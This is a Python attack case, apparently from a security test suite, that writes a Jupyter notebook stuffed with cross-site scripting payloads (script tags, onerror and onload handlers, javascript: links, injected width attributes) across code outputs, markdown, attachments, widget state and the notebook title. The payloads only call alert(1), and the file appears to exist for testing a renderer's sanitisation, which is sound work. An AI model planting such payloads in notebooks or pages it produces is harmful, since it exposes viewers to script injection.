# /// attack
# group = "G"
# number = 73
# lesson = "02_one_step"
# outcome = "="
# tries = "shows scripts in every kind of output, in texts, attachments, widgets and the metadata of images"
# made = true
# ///
import json


def hand_in(folder, notebook):
    live = "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><a href='javascript:alert(1)'>x</a>"
    kinds = ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript", "application/vnd.jupyter.widget-view+json", "text/vnd.mermaid")
    code = f"""from IPython.display import display
    for kind in {kinds!r}:
        display({{kind: {live!r}}}, raw=True, metadata={{kind: {{"width": "1 onload=alert(1)"}}}})
    display({{"image/png": "iVBORw0KGgo=", "text/plain": "x"}}, raw=True, metadata={{"image/png": {{"width": "1 onload=alert(1)"}}}})
    print({live!r})
    """
    notebook["cells"].append({"cell_type": "code", "id": "live", "metadata": {"tags": [live]}, "source": code, "outputs": [], "execution_count": None})
    texts = (live, "[x](javascript:alert(1))", "![x](attachment:a.svg)", "```mermaid\ngraph LR; A[<img src=x onerror=alert(1)>]\n```")
    for k, text in enumerate(texts):
        cell = {"cell_type": "markdown", "id": f"live{k}", "metadata": {"name": live}, "source": text}
        notebook["cells"].append({**cell, "attachments": {"a.svg": {"image/svg+xml": live}}})
    notebook["metadata"]["title"] = live
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": live}}}
    (folder / f"{folder.name}.ipynb").write_text(json.dumps(notebook))
